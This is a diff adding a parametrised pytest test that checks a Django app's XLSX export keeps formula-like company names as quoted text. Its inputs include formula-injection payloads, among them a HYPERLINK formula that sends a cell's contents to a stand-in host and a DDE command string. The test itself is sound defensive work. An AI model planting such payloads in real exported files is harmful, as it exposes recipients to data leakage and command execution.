@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+from decimal import Decimal
 
 import pytest
 from django.core import mail
@@ -99,6 +100,39 @@ def test_csv_export_neutralises_formulas_and_keeps_accents() -> None:
     assert body.startswith("\ufeffRazón social,Total")
     assert "'=HYPERLINK()" in body
     assert response["Content-Disposition"] == 'attachment; filename="mora.csv"'
+
+
+@pytest.mark.parametrize(
+    "razon_social",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Pagar aquí")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ],
+)
+def test_xlsx_export_keeps_formula_like_text_as_text(razon_social: str) -> None:
+    """A razón social that looks like a formula arrives as the text typed: a string
+    cell with the quote prefix, never a formula (openpyxl would store "=..." as one)."""
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    response = tabla_respuesta(
+        nombre="mora",
+        encabezados=["Razón social", "Saldo"],
+        filas=[[razon_social, Decimal("-12.50")], ["Comercial Andina S.A.", 3]],
+        formato="xlsx",
+    )
+    hoja = load_workbook(io.BytesIO(response.content)).active
+    celda = hoja["A2"]
+    assert celda.value == razon_social and celda.data_type == "s" and celda.quotePrefix
+    assert hoja["B2"].data_type == "n" and hoja["B2"].value == -12.5  # numbers stay numbers
+    assert hoja["A3"].value == "Comercial Andina S.A." and not hoja["A3"].quotePrefix
+    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in xml
 
 
 def test_xlsx_export_opens() -> None:
